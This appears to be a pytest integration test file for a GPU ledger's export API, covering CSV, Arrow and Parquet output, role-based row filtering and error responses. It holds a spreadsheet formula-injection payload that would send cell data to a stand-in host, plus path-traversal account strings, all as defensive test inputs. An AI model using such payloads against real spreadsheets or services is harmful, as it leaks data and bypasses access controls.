"""Exports over HTTP: the caller's rows alone, as the ledger has them, in a form that is asked for."""

import csv
import io
from collections.abc import Callable

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from tests.integration.api.matrix import NOON_S, PERIOD
from tests.integration.ledger.books import Ledger, ended, started, submitted, told

from gpuledger.events.registry import Fact
from gpuledger.identity.roles import Role

Shown = Callable[[Role], dict[str, str]]
ENTRIES = "/v1/exports/entries?cluster=alpha"


@pytest.fixture
def run_over(own_ledger: Ledger) -> Ledger:
    """Two runs of alpha are over and charged; one of the caller's team, one of somebody else."""
    own_ledger.append(told(NOON_S, ended("ran-video")), told(NOON_S, ended("ran-speech")))
    return own_ledger


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_entries_are_those_of_the_callers_subtree(
    run_over: Ledger, guarded: TestClient, shown: Shown
) -> None:
    every = rows_of(guarded.get(ENTRIES, headers=shown(Role.ADMIN)).text)
    assert sum(int(row["amount"]) for row in every if row["commodity"] == "gpu_ms") == 0
    assert {"org/vision/video", "org/speech"} <= {row["account"] for row in every}
    own = rows_of(guarded.get(ENTRIES, headers=shown(Role.RESEARCHER)).text)
    assert {row["account"] for row in own} == {"org/vision/video"}
    assert [row for row in every if row["account"] == "org/vision/video"] == own
    assert "speech" not in str(own)


def test_all_forms_hold_the_same(run_over: Ledger, guarded: TestClient, shown: Shown) -> None:
    headers = shown(Role.ADMIN)
    text = rows_of(guarded.get(ENTRIES, headers=headers).text)
    arrow = guarded.get(ENTRIES, headers=headers | {"Accept": "application/vnd.apache.arrow.stream"})
    parquet = guarded.get(f"{ENTRIES}&format=parquet", headers=headers)
    assert arrow.headers["content-type"] == "application/vnd.apache.arrow.stream"
    assert parquet.headers["content-disposition"] == 'attachment; filename="entries.parquet"'
    streamed = pa.ipc.open_stream(arrow.content).read_all()
    assert streamed.equals(pq.read_table(io.BytesIO(parquet.content)))
    assert [(row["seq"], row["amount"]) for row in streamed.to_pylist()] == [
        (int(row["seq"]), int(row["amount"])) for row in text
    ]


def test_a_name_that_is_a_formula_is_text_in_a_spreadsheet(
    run_over: Ledger, guarded: TestClient, shown: Shown
) -> None:
    name = '=HYPERLINK("http://x?"&A1,"me")'
    facts: list[Fact] = [submitted(name, account="org/vision/video"), started(name)]
    run_over.append(*(told(NOON_S - 60, fact) for fact in facts), told(NOON_S, ended(name)))
    answer = guarded.get(ENTRIES, headers=shown(Role.ADMIN))
    told_names = {row["workload"] for row in rows_of(answer.text)}
    assert f"'{name}" in told_names
    assert not any(text.startswith("=") for text in told_names)
    raw = guarded.get(f"{ENTRIES}&format=arrow", headers=shown(Role.ADMIN)).content
    assert name in pa.ipc.open_stream(raw).read_all().column("workload").to_pylist()


def test_use_is_written_as_it_is_answered(run_over: Ledger, guarded: TestClient, shown: Shown) -> None:
    headers = shown(Role.MANAGER)
    answer = guarded.get("/v1/usage?cluster=alpha", headers=headers).json()["rows"]
    rows = rows_of(guarded.get("/v1/exports/usage?cluster=alpha", headers=headers).text)
    assert [(row["key"], int(row["gpu_ms"])) for row in rows] == [
        (row["key"], row["gpu_ms"]) for row in answer
    ]


@pytest.mark.parametrize("by", ["user", "label:owner"])
def test_who_may_not_see_people_sees_no_labels_either(guarded: TestClient, shown: Shown, by: str) -> None:
    for path in ("/v1/exports/usage", "/v1/usage"):
        assert guarded.get(f"{path}?by={by}", headers=shown(Role.VIEWER)).status_code == 403
        assert guarded.get(f"{path}?by={by}", headers=shown(Role.RESEARCHER)).status_code == 200


def test_what_is_wrong_is_said_before_the_first_byte(guarded: TestClient, shown: Shown) -> None:
    admin = shown(Role.ADMIN)
    for path, status in (
        ("/v1/exports/entries?cluster=nowhere", 404),
        (f"{ENTRIES}&account=nobody", 404),
        (f"{ENTRIES}&format=xlsx", 422),
        (f"{ENTRIES}&as_of=soon", 422),
        (f"{ENTRIES}&account=org/vision/..", 404),
        (f"/v1/exports/statements/alpha/{PERIOD}", 404),
    ):
        answer = guarded.get(path, headers=admin)
        assert answer.status_code == status, path
        assert answer.headers["content-type"] == "application/problem+json"
    own = shown(Role.RESEARCHER)
    assert guarded.get(f"{ENTRIES}&account=org/speech", headers=own).status_code == 403
    assert guarded.get(f"{ENTRIES}&account=ORG/vision/video", headers=own).status_code == 403
    # Dots are no steps: this lies inside by its name, and there is no such account.
    assert guarded.get(f"{ENTRIES}&account=org/vision/video/../../speech", headers=own).status_code == 404
